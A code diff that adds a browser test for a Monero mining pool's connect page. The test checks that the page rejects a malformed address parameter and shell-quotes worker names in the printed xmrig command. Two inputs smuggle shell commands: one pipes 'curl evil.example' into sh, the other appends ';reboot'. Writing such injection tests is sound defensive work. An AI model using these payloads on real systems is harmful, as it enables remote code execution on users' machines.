@@ -33,6 +33,9 @@ import {
 import { MINERS, publishTemplate, type SeededPool, seedPool, TX_HASH, TX_KEY } from './testing/seed.js';
 
 const repoRoot = fileURLToPath(new URL('../../../', import.meta.url));
+/** From monero's functional tests: a testnet address, for a pool on mainnet. */
+const TESTNET_ADDRESS =
+  '9ujeXrjzf7bfeK3KZdCqnYaMwZVFuXemPU8Ubw335rj2FN1CdMiWNyFV3ksEfMFvRp9L9qum5UxkP5rN9aLcPxbH1au4WAB';
 
 describe('web dashboard in headless Chromium', () => {
   let dir: string;
@@ -180,5 +183,31 @@ describe('web dashboard in headless Chromium', () => {
       `xmrig -o 127.0.0.1:${stratumPort + 1} -u ${MINERS.bob} -p rig7 --coin monero --tls --tls-fingerprint ${fingerprint}`,
     );
     await screenshot(page, 'dashboard-connect.png');
+  });
+
+  it('connect page: refuses an ?address= that is no address of the network, and shell-quotes what it prints', async () => {
+    const hostile = `${MINERS.bob.slice(0, 60)};curl evil.example|sh;#`;
+    const { page, errors } = await openPage(
+      browser,
+      `${base}/connect.html?address=${encodeURIComponent(hostile)}`,
+    );
+    await expect
+      .poll(() => page.locator('#address-problem').innerText())
+      .toMatch(/^Not a mainnet Monero address: character 61 \(";"\) cannot be in a Monero address/);
+    expect(await page.locator('#xmrig-plain').innerText()).toBe('no command: the address above is not valid');
+    expect(await page.locator('#xmrig-tls').innerText()).not.toContain('curl');
+    expect(await page.locator('a[data-keep-address]').getAttribute('href')).toBe('/miner.html');
+    await page.fill('#address-input', TESTNET_ADDRESS);
+    expect(await page.locator('#address-problem').innerText()).toContain('this is a testnet address');
+
+    const valid = await openPage(browser, `${base}/connect.html?address=${MINERS.bob}`);
+    await expect.poll(() => valid.page.locator('#xmrig-plain').innerText()).toContain(MINERS.bob);
+    expect(await valid.page.locator('#address-problem').isHidden()).toBe(true);
+    await valid.page.fill('#worker-input', "rig's;reboot");
+    // Base58 needs no quotes (shlex would leave it bare too); the worker's metacharacters do.
+    expect(await valid.page.locator('#xmrig-plain').innerText()).toBe(
+      `xmrig -o 127.0.0.1:${stratumPort} -u ${MINERS.bob} -p 'rig'\\''s;reboot' --coin monero`,
+    );
+    expect([...errors, ...valid.errors]).toEqual([]);
   });
 });
